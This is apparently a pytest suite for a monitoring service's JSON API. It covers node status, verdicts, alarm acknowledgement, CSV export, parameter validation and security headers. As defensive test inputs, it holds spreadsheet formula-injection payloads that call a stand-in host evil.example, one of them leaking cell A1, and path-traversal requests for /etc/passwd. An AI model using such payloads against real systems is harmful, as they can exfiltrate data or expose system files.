"""The JSON API of DESIGN.md ("Control room") over real HTTP, on a store holding a small fleet.

The fleet (tests/control_fleet.py): a quiet live node, one in alarm, a replay (windows in
1970, no health) and a stale offline one with seqs 5-7 missing.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator, Mapping
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from control.store import StoreError
from control.store.records import ExportRow
from control.web.export_csv import csv_chunks, safe_cell
from tests.control_fleet import Fleet, fill_fleet, first_alarm_ack, verdict_record
from tests.fixtures.control_web import USER, Client, Web, WebFactory
from tests.watch_messages import iso, verdict_doc

DESIGN_NODE_KEYS = {
    "node", "status", "alarm", "last_verdict", "capture", "outbox_depth", "stale", "gaps",
}  # fmt: skip
SECURITY_HEADERS = {
    "X-Content-Type-Options": "nosniff",
    "X-Frame-Options": "DENY",
    "Referrer-Policy": "no-referrer",
    "Cache-Control": "no-store",
}


class OnBothDatabases:
    """Tests of calls that read or write the store run on each database (sqlite, postgresql):
    that SQL the two must answer alike. Parameter checks, headers and the service calls answer
    before any SQL and run on SQLite only (a PostgreSQL fleet costs 1.5 s to set up)."""

    @pytest.fixture
    def web(self, web_factory: WebFactory, store_url: str) -> Web:
        return web_factory(database_url=store_url)


@pytest.fixture
def fleet(web: Web) -> Fleet:
    return fill_fleet(web.store, datetime.fromtimestamp(web.clock(), UTC))


@pytest.fixture
def op(web: Web, fleet: Fleet) -> Client:
    """A logged-in client of the web server holding the fleet."""
    del fleet
    return web.logged_in()


def by_node(rows: list[dict[str, Any]]) -> dict[str, dict[str, Any]]:
    return {row["node"]: row for row in rows}


def stored_docs(web: Web, node: str) -> list[dict[str, Any]]:
    return [json.loads(text) for text in web.store.verdicts(node, None, None, 10_000)]


class TestNodes(OnBothDatabases):
    def test_every_node_with_the_contracts_fields(self, op: Client, fleet: Fleet) -> None:
        """GET /api/nodes: one object per node, each with DESIGN.md's keys."""
        reply = op.get("/api/nodes")
        assert reply.status == 200
        rows = reply.json()
        assert sorted(r["node"] for r in rows) == sorted(
            [fleet.quiet, fleet.alarm, fleet.replay, fleet.stale]
        )
        for row in rows:
            assert set(row) >= DESIGN_NODE_KEYS
            assert set(row["alarm"]) >= {"state", "since", "acked_by"}

    def test_a_quiet_live_node(self, op: Client, fleet: Fleet) -> None:
        row = by_node(op.get("/api/nodes").json())[fleet.quiet]
        assert row["status"] == "online"
        assert row["alarm"]["state"] is None
        assert row["source"] == "live"
        assert row["verdict"] == "normal"
        assert row["stale"] is False
        assert row["age_s"] == pytest.approx(5.0, abs=0.01)
        assert (row["health"], row["capture"], row["outbox_depth"]) == (True, "running", 0)
        assert row["gaps"] == 0
        assert row["seq"] == 119
        assert row["last_verdict"]["seq"] == 119
        assert row["last_verdict"]["physics"]["mod_db"] == 4.0

    def test_a_node_in_alarm(self, op: Client, fleet: Fleet) -> None:
        row = by_node(op.get("/api/nodes").json())[fleet.alarm]
        assert row["alarm"]["state"] == "alarm"
        assert row["alarm"]["acked_by"] is None
        assert row["alarm"]["id"] is not None
        assert row["verdict"] == "anomalous"
        assert row["score"] == pytest.approx(0.92)
        assert row["mod_db"] == pytest.approx(14.0)
        assert row["outbox_depth"] == 3

    def test_a_replay_is_never_stale_and_has_no_wall_clock_age(
        self, op: Client, fleet: Fleet
    ) -> None:
        """Windows in 1970: not stale, no age; the file and position instead; no health."""
        row = by_node(op.get("/api/nodes").json())[fleet.replay]
        assert row["source"] == "replay"
        assert row["stale"] is False
        assert row["age_s"] is None
        assert (row["file"], row["offset_s"]) == ("2026-11-02.wav", 1170.0)
        assert row["health"] is False
        assert row["capture"] is None
        assert row["last_health"] is None

    def test_a_stale_node_with_a_gap(self, op: Client, fleet: Fleet) -> None:
        row = by_node(op.get("/api/nodes").json())[fleet.stale]
        assert row["status"] == "offline"
        assert row["stale"] is True
        assert row["age_s"] == pytest.approx(3600.0, abs=0.01)
        assert (row["gaps"], row["gap_ranges"], row["new_outbox"]) == (3, 1, 0)
        assert row["capture"] == "fault"

    def test_stale_after_s_from_the_config(self, web_factory: WebFactory) -> None:
        """control.yaml's stale_after_s replaces the two windows: at 2 h, an hour-old verdict
        is fresh; at 60 s, a 5 s old one still is."""
        for after_s, stale in ((7200.0, False), (60.0, True)):
            web = web_factory(stale_after_s=after_s)
            fleet = fill_fleet(web.store, datetime.fromtimestamp(web.clock(), UTC))
            rows = by_node(web.logged_in().get("/api/nodes").json())
            assert rows[fleet.stale]["stale"] is stale
            assert rows[fleet.quiet]["stale"] is False

    def test_a_clock_far_ahead_does_not_keep_a_node_fresh(self, web: Web, op: Client) -> None:
        """A window_end in 2100 that arrived an hour ago: stale (judged by arrival), CLOCK?."""
        doc = verdict_doc("ahead", 0, datetime(2100, 1, 1, tzinfo=UTC))
        web.store.write([verdict_record(doc, web.clock() - 3600)])
        row = by_node(op.get("/api/nodes").json())["ahead"]
        assert (row["stale"], row["clock_ahead"]) == (True, True)

    def test_one_node(self, op: Client, fleet: Fleet) -> None:
        """GET /api/nodes/{node}: the row of /api/nodes plus the span of its windows."""
        one = op.get(f"/api/nodes/{fleet.replay}").json()
        assert one["node"] == fleet.replay
        assert one["span"] == {"first": 30.0, "last": 1200.0}

    def test_an_unknown_node_is_404(self, op: Client) -> None:
        for path in ["/api/nodes/nobody", "/api/nodes/nobody/verdicts", "/api/nodes/nobody/gaps"]:
            reply = op.get(path)
            assert reply.status == 404
            assert reply.error == "no such node"


class TestVerdicts(OnBothDatabases):
    def test_the_payloads_as_published_oldest_first(
        self, web: Web, op: Client, fleet: Fleet
    ) -> None:
        reply = op.get(f"/api/nodes/{fleet.quiet}/verdicts")
        assert reply.status == 200
        docs = reply.json()
        assert docs == stored_docs(web, fleet.quiet)
        assert [d["seq"] for d in docs] == list(range(120))

    def test_a_time_range_and_a_limit(self, web: Web, op: Client, fleet: Fleet) -> None:
        """from is inclusive, to exclusive (window_end); limit keeps the oldest."""
        docs = stored_docs(web, fleet.quiet)
        start, end = docs[10]["window_end"], docs[20]["window_end"]
        ranged = op.get(f"/api/nodes/{fleet.quiet}/verdicts?from={start}&to={end}").json()
        assert [d["seq"] for d in ranged] == list(range(10, 20))
        limited = op.get(f"/api/nodes/{fleet.quiet}/verdicts?from={start}&limit=3").json()
        assert [d["seq"] for d in limited] == [10, 11, 12]

    def test_offsets_other_than_utc_are_read(self, op: Client, fleet: Fleet, web: Web) -> None:
        docs = stored_docs(web, fleet.quiet)
        utc = datetime.fromisoformat(docs[50]["window_end"])
        paris = utc.astimezone(datetime.now().astimezone().tzinfo).isoformat()
        query = f"from={paris.replace('+', '%2B')}&limit=1"
        assert op.get(f"/api/nodes/{fleet.quiet}/verdicts?{query}").json()[0]["seq"] == 50

    def test_health_reports(self, op: Client, fleet: Fleet) -> None:
        reports = op.get(f"/api/nodes/{fleet.quiet}/health").json()
        assert [r["capture"] for r in reports] == ["running"]


class TestSeriesGapsAlarms(OnBothDatabases):
    def test_series_buckets_count_every_verdict(self, web: Web, op: Client, fleet: Fleet) -> None:
        now = datetime.fromtimestamp(web.clock(), UTC)
        start, end = iso(now - timedelta(hours=2)), iso(now + timedelta(seconds=1))
        series = op.get(f"/api/nodes/{fleet.alarm}/series?from={start}&to={end}&points=40").json()
        assert series["node"] == fleet.alarm
        assert series["step_s"] == pytest.approx(7201 / 40)
        points = series["points"]
        assert 0 < len(points) <= 40
        assert sum(p["count"] for p in points) == 120
        assert sum(p["anomalous"] for p in points) == 20
        assert set(points[0]) == {
            "start", "end", "count", "anomalous", "score_max", "score_mean", "level_dbfs",
            "mod_db", "hum_db", "crackle_db",
        }  # fmt: skip

    def test_a_replays_default_series_is_its_own_time(self, op: Client, fleet: Fleet) -> None:
        """Without from/to: the day up to the node's last window, for a replay in 1970."""
        series = op.get(f"/api/nodes/{fleet.replay}/series").json()
        assert sum(p["count"] for p in series["points"]) == 40
        assert series["to"] == pytest.approx(1200.001)

    def test_gaps(self, op: Client, fleet: Fleet) -> None:
        assert op.get(f"/api/nodes/{fleet.stale}/gaps").json() == [
            {"from_seq": 5, "to_seq": 7, "count": 3, "reason": "missing"}
        ]
        assert op.get(f"/api/nodes/{fleet.quiet}/gaps").json() == []

    def test_a_nodes_alarm_history_newest_first(self, op: Client, fleet: Fleet) -> None:
        history = op.get(f"/api/nodes/{fleet.alarm}/alarms").json()
        assert [(a["state"], a["seq"]) for a in history] == [
            ("alarm", 102),
            ("clear", 2),
            ("alarm", 1),
        ]
        assert set(history[0]) >= {"id", "since", "acked_by", "acked_at", "ack_note", "node"}

    def test_open_alarms(self, op: Client, fleet: Fleet) -> None:
        """open=1: raised and not cleared since; without it, every change."""
        open_now = op.get("/api/alarms?open=1").json()
        assert [(a["node"], a["seq"]) for a in open_now] == [(fleet.alarm, 102)]
        assert len(op.get("/api/alarms").json()) == 3


class TestAcknowledge(OnBothDatabases):
    def test_ack_stores_who_when_and_the_note(self, web: Web, op: Client, fleet: Fleet) -> None:
        alarm_id = by_node(op.get("/api/nodes").json())[fleet.alarm]["alarm"]["id"]
        reply = op.post(f"/api/alarms/{alarm_id}/ack", {"note": "  crew sent, ETA 40 min  "})
        assert reply.status == 200
        acked = reply.json()
        assert (acked["acked_by"], acked["ack_note"]) == (USER, "crew sent, ETA 40 min")
        assert acked["acked_at"] == pytest.approx(web.clock())
        stored = next(a for a in web.store.alarms(open_only=True) if a.id == alarm_id)
        assert (stored.acked_by, stored.ack_note) == (USER, "crew sent, ETA 40 min")
        assert stored.acked_at == pytest.approx(web.clock())
        row = by_node(op.get("/api/nodes").json())[fleet.alarm]
        assert row["alarm"]["acked_by"] == USER

    def test_a_second_ack_is_409(self, op: Client, fleet: Fleet) -> None:
        alarm_id = by_node(op.get("/api/nodes").json())[fleet.alarm]["alarm"]["id"]
        assert op.post(f"/api/alarms/{alarm_id}/ack", {"note": "first"}).status == 200
        again = op.post(f"/api/alarms/{alarm_id}/ack", {"note": "second"})
        assert again.status == 409
        assert "already acknowledged" in again.error

    def test_a_clear_cannot_be_acknowledged(self, web: Web, op: Client, fleet: Fleet) -> None:
        clear = next(a for a in web.store.alarms(open_only=False) if a.state == "clear")
        assert op.post(f"/api/alarms/{clear.id}/ack", {"note": ""}).status == 409

    def test_an_earlier_alarm_already_acknowledged_shows_who(
        self, web: Web, op: Client, fleet: Fleet
    ) -> None:
        first_alarm_ack(web.store, fleet.alarm)
        history = op.get(f"/api/nodes/{fleet.alarm}/alarms").json()
        assert (history[-1]["acked_by"], history[-1]["ack_note"]) == (
            "night-shift",
            "crew checked it: a bird",
        )

    @pytest.mark.parametrize(
        ("path", "body", "status", "message"),
        [
            ("/api/alarms/999/ack", {"note": "x"}, 404, "no alarm 999"),
            ("/api/alarms/abc/ack", {"note": "x"}, 400, "alarm id: expected a positive"),
            ("/api/alarms/0/ack", {"note": "x"}, 400, "alarm id"),
            ("/api/alarms/1/ack", {"note": 5}, 400, "note: expected a string"),
            ("/api/alarms/1/ack", {"note": "x" * 2001}, 400, "note: at most 2000"),
            ("/api/alarms/1/ack", {"note": "\ud800"}, 400, "note: not valid Unicode"),
            ("/api/alarms/1/ack", {"note": "a\x00b"}, 400, "note: holds a NUL"),
            ("/api/alarms/1/ack", [1], 400, "body: expected a JSON object"),
        ],
    )
    def test_bad_acknowledgements(
        self, op: Client, path: str, body: Any, status: int, message: str
    ) -> None:
        reply = op.post(path, body)
        assert reply.status == status
        assert reply.error.startswith(message), reply.error

    def test_a_body_that_is_not_json(self, op: Client) -> None:
        bad = op.post("/api/alarms/1/ack", headers={"Content-Type": "text/plain"})
        assert bad.status == 415
        garbage = op.request(
            "POST",
            "/api/alarms/1/ack",
            b"{not json",
            {"Content-Type": "application/json", "X-CSRF-Token": op.csrf or ""},
        )
        assert garbage.status == 400
        assert garbage.error == "body: not valid JSON"


class TestExport(OnBothDatabases):
    def test_csv_of_one_node(self, web: Web, op: Client, fleet: Fleet) -> None:
        reply = op.get(f"/api/export.csv?node={fleet.stale}")
        assert reply.status == 200
        assert reply.header("Content-Type") == "text/csv; charset=utf-8"
        assert reply.header("Transfer-Encoding") == "chunked"
        assert "attachment" in (reply.header("Content-Disposition") or "")
        table = list(csv.reader(io.StringIO(reply.body.decode("utf-8"))))
        assert table[0] == [
            "node", "seq", "window_end", "received_at", "source", "label", "score",
            "level_dbfs", "mod_db", "hum_db", "crackle_db",
        ]  # fmt: skip
        seqs = [int(row[1]) for row in table[1:]]
        assert seqs == [s for s in range(30) if s not in fleet.gap_seqs]
        first = stored_docs(web, fleet.stale)[0]
        assert table[1][2] == first["window_end"]
        assert float(table[1][7]) == first["level_dbfs"]  # negative, not made text
        assert float(table[1][8]) == 4.0

    def test_csv_of_the_fleet_in_a_time_range(self, op: Client, fleet: Fleet) -> None:
        """No node: every node's verdicts in [from, to), by node then time."""
        everything = list(csv.reader(io.StringIO(op.get("/api/export.csv").body.decode())))
        assert len(everything) == 1 + 120 + 120 + 40 + 27
        replay = op.get("/api/export.csv?from=1970-01-01T00:00:00Z&to=1970-01-02T00:00:00Z")
        rows = list(csv.reader(io.StringIO(replay.body.decode())))[1:]
        assert {r[0] for r in rows} == {fleet.replay}
        assert len(rows) == 40

    def test_an_unknown_node_is_404(self, op: Client) -> None:
        assert op.get("/api/export.csv?node=nobody").status == 404

    @pytest.mark.parametrize(
        ("text", "cell"),
        [
            ('=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'),
            ("+1+1", "'+1+1"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\tx", "'\tx"),
            ("tower=1", "tower=1"),
        ],
    )
    def test_formula_cells_are_defused(self, text: str, cell: str) -> None:
        assert safe_cell(text) == cell

    def test_a_formula_node_is_escaped_in_the_export(self, web: Web, op: Client) -> None:
        """A node id that a spreadsheet would run comes out with a leading quote."""
        node = '=HYPERLINK("evil.example?"&A1,"click")'
        doc = verdict_doc(node, 0, datetime.fromtimestamp(web.clock(), UTC))
        web.store.write([verdict_record(doc, web.clock())])
        body = op.get("/api/export.csv").body.decode()
        rows = list(csv.reader(io.StringIO(body)))
        assert [r[0] for r in rows if "HYPERLINK" in r[0]] == ["'" + node]

    def test_large_exports_come_in_chunks(self) -> None:
        """csv_chunks yields as it goes (bounded chunks), not one string at the end."""
        rows = (
            ExportRow("n", i, 1e9 + i, 1e9 + i, "live", "normal", 0.1, -40.0, 1.0, 2.0, 3.0)
            for i in range(20_000)
        )
        chunks = list(csv_chunks(rows))
        assert len(chunks) > 10
        assert max(len(c) for c in chunks) < 2 * 64 * 1024
        assert b"".join(chunks).count(b"\r\n") == 20_001


class TestParameters:
    @pytest.mark.parametrize(
        ("query", "message"),
        [
            ("from=yesterday", "from: not an ISO-8601 time"),
            ("to=2026-13-01T00:00:00Z", "to: not an ISO-8601 time"),
            ("from=2026-11-25T12:00:00", "from: needs a time zone"),
            ("from=2026-11-25T12:00:00Z&to=2026-11-25T11:00:00Z", "from: must be before to"),
            ("limit=0", "limit: expected a whole number from 1 to 10000"),
            ("limit=10001", "limit: expected a whole number"),
            ("limit=abc", "limit: expected a whole number"),
            ("limit=%D9%A3", "limit: expected a whole number"),  # Arabic-Indic 3
            ("limit=-1", "limit: expected a whole number"),
            ("limit=1&limit=2", "limit: given more than once"),
            ("form=2026-11-25T12:00:00Z", "form: unknown parameter (this call takes: from,"),
            ("from=%ff", "query: not valid UTF-8"),
            ("&".join(f"p{i}=1" for i in range(20)), "query: more than 16 parameters"),
        ],
    )
    def test_bad_verdict_queries_name_the_parameter(
        self, op: Client, fleet: Fleet, query: str, message: str
    ) -> None:
        reply = op.get(f"/api/nodes/{fleet.quiet}/verdicts?{query}")
        assert reply.status == 400
        assert reply.error.startswith(message), reply.error

    @pytest.mark.parametrize(
        ("path", "message"),
        [
            ("/api/alarms?open=maybe", "open: expected 1 or 0"),
            ("/api/nodes/tower-0001/series?points=0", "points: expected a whole number"),
            ("/api/nodes/tower-0001/series?points=5001", "points: expected a whole number"),
            ("/api/nodes?x=1", "x: unknown parameter (this call takes: none)"),
            ("/api/nodes/%ff", "node: not valid UTF-8"),
            ("/api/export.csv?nodes=x", "nodes: unknown parameter"),
        ],
    )
    def test_other_bad_parameters(self, op: Client, path: str, message: str) -> None:
        reply = op.get(path)
        assert reply.status == 400
        assert reply.error.startswith(message), reply.error

    def test_unknown_paths_and_methods(self, op: Client) -> None:
        assert op.get("/api/nope").status == 404
        assert op.get("/api/nodes/").status == 404
        assert op.get("/static/../../etc/passwd").status == 404
        assert op.get("/static/%2e%2e%2fstore.py").status == 404
        wrong = op.post("/api/nodes")
        assert (wrong.status, wrong.header("Allow")) == (405, "GET")
        assert op.request("PUT", "/api/nodes").status == 501
        assert op.request("DELETE", "/api/nodes").json() == {
            "error": "Unsupported method ('DELETE')"
        }


class TestServiceCalls:
    def test_healthz_needs_no_login(self, web: Web) -> None:
        reply = web.client().get("/healthz")
        assert (reply.status, reply.json()) == (200, {"ok": True, "collector": "running"})
        web.health = {"ok": False, "collector": "broker unreachable"}
        assert web.client().get("/healthz").status == 503

    def test_metrics_from_this_machine_need_no_login(self, web: Web) -> None:
        """A Prometheus scraper on the same machine reads /metrics without a session."""
        reply = web.client().get("/metrics")
        assert reply.status == 200
        assert reply.header("Content-Type") == "text/plain; version=0.0.4; charset=utf-8"
        assert reply.body == web.metrics.encode()

    def test_head_is_get_without_the_body(self, op: Client) -> None:
        for path in ("/healthz", "/api/nodes", "/api/export.csv"):
            reply = op.request("HEAD", path)
            assert (reply.status, reply.body) == (200, b""), path

    def test_metrics_through_a_proxy_need_a_login(self, web: Web) -> None:
        """Through a proxy on this machine the peer is loopback, but the client is not."""
        proxied = {"X-Forwarded-For": "10.1.2.3"}
        assert web.client().get("/metrics", headers=proxied).status == 401
        assert web.logged_in().get("/metrics", headers=proxied).status == 200


class TestAnswers:
    @pytest.mark.parametrize(
        "path", ["/api/nodes", "/", "/login", "/static/node.js", "/api/nope", "/healthz"]
    )
    def test_security_headers_on_every_answer(self, op: Client, path: str) -> None:
        reply = op.get(path)
        for name, value in SECURITY_HEADERS.items():
            assert reply.header(name) == value, (path, name)
        csp = reply.header("Content-Security-Policy") or ""
        assert "default-src 'self'" in csp
        assert "frame-ancestors 'none'" in csp
        assert "unsafe-inline" not in csp
        assert "Python" not in (reply.header("Server") or "")

    def test_security_headers_on_a_redirect(self, web: Web) -> None:
        reply = web.client().get("/")
        assert reply.status == 303
        assert reply.header("X-Frame-Options") == "DENY"

    def test_a_failing_handler_is_a_500_without_a_traceback(
        self, web_factory: WebFactory, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        """An exception in a handler: 500 {"error": "internal error"}, nothing of its text."""
        web = web_factory(auth="none")
        monkeypatch.setattr(web, "health", _Exploding())
        reply = web.client().get("/healthz")
        assert reply.status == 500
        assert reply.json() == {"error": "internal error"}
        assert b"Traceback" not in reply.body
        assert b"secret" not in reply.body

    def test_a_failing_database_is_a_503(
        self, web_factory: WebFactory, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        """The store's error (which names the database) goes to the log, not the client."""
        web = web_factory(auth="none")

        def fail() -> None:
            raise StoreError("sqlite:///x: disk I/O error")

        monkeypatch.setattr(web.store, "nodes", fail)
        reply = web.client().get("/api/nodes")
        assert (reply.status, reply.json()) == (503, {"error": "database unavailable"})


class _Exploding(Mapping[str, Any]):
    """A health report whose reading raises, as a broken collector callback would."""

    def __getitem__(self, key: str) -> Any:
        raise RuntimeError("secret internals /etc/corona/control.yaml")

    def __iter__(self) -> Iterator[str]:
        raise RuntimeError("secret internals /etc/corona/control.yaml")

    def __len__(self) -> int:
        return 1
